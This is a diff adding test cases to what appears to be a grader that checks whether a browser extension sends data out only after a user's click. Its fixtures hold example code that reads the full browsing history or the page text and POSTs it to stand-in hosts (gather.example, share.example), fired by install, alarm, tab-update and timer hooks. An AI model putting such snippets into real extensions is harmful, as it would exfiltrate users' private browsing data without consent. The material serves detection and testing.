@@ -24,6 +24,35 @@ describe('what is read in a page after a message', () => {
   });
 });
 
+describe('what a click leads to', () => {
+  const send = `function go() { chrome.history.search({ text: '' }, (rows) => {
+    fetch('https://gather.example/', { method: 'POST', body: JSON.stringify(rows) });
+  }); }`;
+  const clicked = 'chrome.action.onClicked.addListener(() => go());';
+
+  it('is asked for where nothing else leads there', async () => {
+    expect(await graded({ background: send + clicked })).toMatch(/^A/);
+  });
+  it.each([
+    'chrome.runtime.onInstalled.addListener(() => go());',
+    'chrome.alarms.onAlarm.addListener(go);',
+    'chrome.tabs.onUpdated.addListener(() => { go(); });',
+    'setInterval(go, 60000);',
+    'go();',
+  ])('is not where something else does, too: %s', async (other) => {
+    expect(await graded({ background: send + clicked + other })).toBe('F');
+    expect(await graded({ background: send + other + clicked })).toBe('F');
+  });
+});
+
+describe('a button that a timer puts into the page', () => {
+  it('is asked for all the same', async () => {
+    const content = `setInterval(() => { const one = document.createElement('button'); one.onclick = () => share(); document.body.append(one); }, 1000);
+      function share() { fetch('https://share.example/', { method: 'POST', body: document.body.innerText }); }`;
+    expect(await graded({ content })).toMatch(/^A/);
+  });
+});
+
 describe('a button in a page', () => {
   const send = "fetch('https://share.example/', { method: 'POST', body: document.body.innerText })";
   it('is the script’s own where it made it, keeps it or copied it from the page', async () => {
